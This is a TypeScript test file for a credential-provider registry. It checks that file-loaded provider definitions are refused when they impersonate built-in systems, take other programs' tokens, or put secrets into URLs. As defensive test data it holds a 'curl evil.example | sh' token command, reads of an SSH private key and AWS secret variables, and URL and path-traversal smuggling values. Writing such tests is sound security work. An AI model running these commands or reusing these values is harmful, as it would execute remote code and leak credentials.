import assert from "node:assert/strict";
import {
  checkProvider as defineProvider,
  isForeign,
  type ProviderInput,
} from "../../src/providers/define_provider.ts";
import { defineForeign, reachesOf } from "../../src/providers/foreign_definition.ts";
import { findProvider, providers } from "../../src/providers/registry.ts";
import { resolveSystem } from "../../src/providers/system.ts";
import { throws } from "../support/rejects.ts";
import { eachRow, test } from "../support/tests.ts";

const MINIMAL: ProviderInput = {
  name: "weather",
  apiUrl: "https://api.weather.example",
  issuer: "https://login.weather.example",
};

test("a definition from a file defines a separate system (trust 3)", () =>
  eachRow<{ name: string; input: Record<string, unknown>; says: RegExp }>([
    ...providers.map(({ name }) => ({ name, input: { name }, says: /"name"/ })),
    { name: "another's folder as a name", input: { name: "gcloud" }, says: /"name"/ },
    { name: "another's variables by its name", input: { name: "azure" }, says: /"name"/ },
    { name: "a person's by their name", input: { name: "earthdata" }, says: /"name"/ },
    { name: "a password manager's", input: { name: "op" }, says: /"name"/ },
    { name: "and with more behind it", input: { name: "aws-data" }, says: /"name"/ },
    // Own attack on trust 3: more programs, and variables that a name and a field spell together.
    ...[
      "age",
      "gem",
      "jupyter-x",
      "jupyterhub-api",
      "ci-job",
      "ci-registry",
      "actions-runtime",
      "elastic",
      "gtk",
      "perl5",
      "xdg",
    ].map((name) => ({ name, input: { name }, says: /such as "my-/ })),
    // The same: what people and variables take for a built-in system.
    ...[
      "spatiafi-x",
      "spatiafi-client",
      "spatiafi2",
      "spatia-fi",
      "plantpredict-evil",
      "plantpredict-okta-eu",
      "plant-predict",
      "fourinsight-client-x",
      "fourinsights",
      "ocs-client",
    ].map((name) => ({ name, input: { name }, says: /"name"/ })),
    ...[
      "SpatiaFi",
      "spatiafi ",
      "Spatia-Fi",
      "Ｓpatiafi",
      "4insight",
      "Spatі\u0430Fi",
      "Plαnt Predict",
    ].map((
      title,
    ) => ({ name: `the title ${title}`, input: { title }, says: /"title"/ })),
    { name: "the folder of gcloud", input: { directory: "gcloud" }, says: /"directory"/ },
    { name: "the folder of SpatiaFi", input: { folder: "spatiafi" }, says: /"name"/ },
    {
      name: "another program's file",
      input: { files: ["application_default_credentials.json"] },
      says: /"files"/,
    },
    { name: "the variables of SpatiaFi", input: { environmentPrefix: "SPATIAFI" }, says: /"name"/ },
    { name: "other variables", input: { environmentPrefix: "AWS" }, says: /"environmentPrefix"/ },
    {
      name: "another program's tokens",
      input: { foreignTokens: { folder: ".fourinsight/api", file: "token" } },
      says: /"foreignTokens"/,
    },
    { name: "a word that many programs share", input: { name: "database" }, says: /"name"/ },
    { name: "the variables of a CI job", input: { name: "ci" }, says: /"name"/ },
    { name: "the variables of p1x, as 1x", input: { name: "1x" }, says: /begin with a letter/ },
    {
      name: "the client secret of weather-station, as a field of weather",
      input: { requires: ["client_id", "station_client_secret"] },
      says: /"requires"/,
    },
    {
      name: "the same by a default",
      input: { defaults: { station_username: "x" } },
      says: /"requires"/,
    },
    {
      name: "a secret in a URL",
      input: {
        requires: ["client_id", "refresh_token"],
        apiUrl: "https://evil.example/{refresh_token}",
      },
      says: /puts the secret "refresh_token" into a URL/,
    },
  ], ({ input, says }) => {
    const { message } = throws(() => defineForeign({ ...MINIMAL, ...input }), "invalid_argument");
    assert.match(message, says);
  }));

test("a definition from a file may have most names and titles", () =>
  eachRow(
    [
      ["my-spatiafi", "My SpatiaFi"],
      ["planet-service", "Planet"],
      ["ocsp", "ocsp"],
      ["oceans", "Οκεανός"],
      ["weather", "Погода (DWD)"],
      ["agency", "Agency"],
      ["solar-forecast", "µGrid"],
      ["geminid", "Geminid"],
    ].map(([name = "", title = ""]) => ({ name, title })),
    ({ name, title }) => assert.equal(defineForeign({ ...MINIMAL, name, title }).title, title),
  ));

test("a foreign definition needs consent to run a program or use a token of this machine", () =>
  eachRow<{ name: string; input: Record<string, unknown>; does?: string }>([
    {
      name: "a program",
      input: { issuer: undefined, tokenCommand: ["sh", "-c", "curl evil.example | sh"] },
      does: `runs "sh -c 'curl evil.example | sh'"`,
    },
    ...([
      [{ file: "/home/ada/.ssh/id_rsa" }, 'sends what is in the file "/home/ada/.ssh/id_rsa"'],
      [
        { environment: "AWS_SECRET_ACCESS_KEY" },
        "sends the value of the variable AWS_SECRET_ACCESS_KEY",
      ],
      [{ kubernetes: "/run/t" }, `sends the pod's token in "/run/t"`],
      [{ githubActions: "sts" }, 'sends an identity token of the GitHub job for "sts"'],
      [
        { jupyterhub: "refresh_token" },
        "sends the refresh_token in the JupyterHub user's auth_state",
      ],
      [{ command: ["gh", "auth", "token"] }, 'runs "gh auth token"'],
      [{ credential: "ticket" }, undefined],
      [{ credential: "subject_token" }, undefined],
      // Own attack on trust 3: the variable of another program.
      [{ credential: "host_api_key" }, "sends the value of the variable WEATHER_HOST_API_KEY"],
      [{ credential: "token" }, "sends the value of the variable WEATHER_TOKEN"],
      [{ credential: "job_jwt" }, "sends the value of the variable WEATHER_JOB_JWT"],
      [{ credential: "blob" }, "sends the value of the variable WEATHER_BLOB"],
    ] as const).flatMap(([token, does]) => [
      {
        name: `subjectToken ${JSON.stringify(token)}`,
        input: { grant: "token_exchange", subjectToken: token },
        ...(does === undefined ? {} : { does }),
      },
      {
        name: `clientAssertion ${JSON.stringify(token)}`,
        input: { clientAuthentication: "federated_jwt", clientAssertion: token },
        ...(does === undefined ? {} : { does }),
      },
    ]),
    { name: "its own key", input: { grant: "jwt_bearer", assertionClaims: {} } },
  ], ({ input, does }) => {
    const definition = { ...MINIMAL, ...input };
    const agreed = defineForeign(definition, { agreed: true });
    assert.equal(isForeign(agreed), true);
    assert.deepEqual(reachesOf(agreed).map(({ text }) => text), does === undefined ? [] : [does]);
    if (does === undefined) return void defineForeign(definition);
    const { message } = throws(() => defineForeign(definition), "invalid_argument");
    assert(message.includes(does), message);
  }));

test("a definition from a file keeps its mark, and no other has one", async () => {
  const provider = defineForeign(MINIMAL);
  assert.equal(isForeign(provider), true);
  assert.equal(isForeign(defineProvider(provider)), true);
  assert.equal(isForeign(await findProvider(provider)), true);
  assert.equal(isForeign(defineProvider(MINIMAL)), false);
  assert.equal(isForeign(await findProvider("spatiafi")), false);
});

test("no definition puts a secret into a URL, or sets what this module sets (trust 3, 9)", () =>
  eachRow<{ name: string; input: Record<string, unknown> }>([
    ...[
      "client_secret",
      "password",
      "access_token",
      "api_key",
      "private_key",
      "passphrase",
      "secret_id",
    ]
      .map((name) => ({ name, input: { apiUrl: `https://api.example/{${name}}` } })),
    { name: "in a host", input: { issuer: "https://{client_secret}.example" } },
    { name: "in a query", input: { probe: "/x?key={password}" } },
    {
      name: "in a path",
      input: { endpoints: { token: "/{client_secret}" }, authUrl: "https://a.example" },
    },
    { name: "no name", input: { apiUrl: "https://api.example/{}" } },
    { name: "another alphabet", input: { apiUrl: "https://api.example/{Client Id}" } },
    {
      name: "a path that is a host",
      input: { endpoints: { token: "//evil.example" }, authUrl: "https://a.example" },
    },
    ...[
      "response_type",
      "client_id",
      "redirect_uri",
      "state",
      "nonce",
      "code_challenge",
      "code_challenge_method",
      "Client_ID",
      "request_uri",
      "request",
    ].map((name) => ({ name, input: { authorizationParameters: { [name]: "x" } } })),
  ], ({ input }) => {
    throws(() => defineProvider({ ...MINIMAL, ...input } as ProviderInput), "invalid_argument");
  }));

test("resolveSystem() uses no value from a prototype, and keeps each in its place (trust 9)", async () => {
  const ocs = await findProvider("ocs");
  const values = { resource: "https://dat-b.example.com", tenant_id: "t", api_version: "v1" };
  for (const tenant_id of ["..", ".", "", "../../x", "a?b", "a#b", "%2e%2e", "a\\b"]) {
    throws(() => resolveSystem(ocs, {}, { ...values, tenant_id }).probe, "invalid_argument");
  }
  for (
    const resource of ["https://a.example/?x=", "https://a.example#", "https://a@evil.example"]
  ) {
    throws(() => resolveSystem(ocs, {}, { ...values, resource }), "invalid_argument");
  }
  const odd = defineProvider({ ...MINIMAL, apiUrl: "https://{constructor}.example" });
  throws(() => resolveSystem(odd, {}, {}), "credentials_missing");
  const host = defineProvider({ ...MINIMAL, apiUrl: "https://{region}.example" });
  assert.equal(resolveSystem(host, {}, { region: "eu" }).apiUrl.host, "eu.example");
  throws(() => resolveSystem(host, {}, { region: "evil.example/" }), "invalid_argument");
});

test("URLs with no effect, or only half of one, are refused; an issuer replaces endpoints (11.2)", async () => {
  const spatiafi = await findProvider("spatiafi");
  const ocs = await findProvider("ocs");
  const values = { ...ocs.defaults, tenant_id: "t" };
  const test = "https://test.example";
  throws(
    () => resolveSystem(ocs, { authUrl: test }, values),
    "invalid_argument",
    /has no effect/,
  );
  throws(() => resolveSystem(spatiafi, { issuer: test }, {}), "invalid_argument", /only part of/);
  const both = resolveSystem(spatiafi, { issuer: test, authUrl: test }, {});
  assert.equal(new URL(both.endpoints.token ?? "").origin, test);
  const mixed = defineProvider({
    ...MINIMAL,
    authUrl: "https://login.weather.example",
    endpoints: { token: "/token", revocation: "https://other.weather.example/revoke" },
  });
  throws(() => resolveSystem(mixed, { authUrl: test }, {}), "invalid_argument", /other\.weather/);
  const absolute = defineProvider({
    ...MINIMAL,
    endpoints: { token: "https://login.weather.example/token" },
  });
  throws(() => resolveSystem(absolute, { authUrl: test }, {}), "invalid_argument", /has no effect/);
  const moved = resolveSystem(absolute, { issuer: test }, {});
  assert.deepEqual([moved.issuer, moved.endpoints.token], [test, undefined]);
});
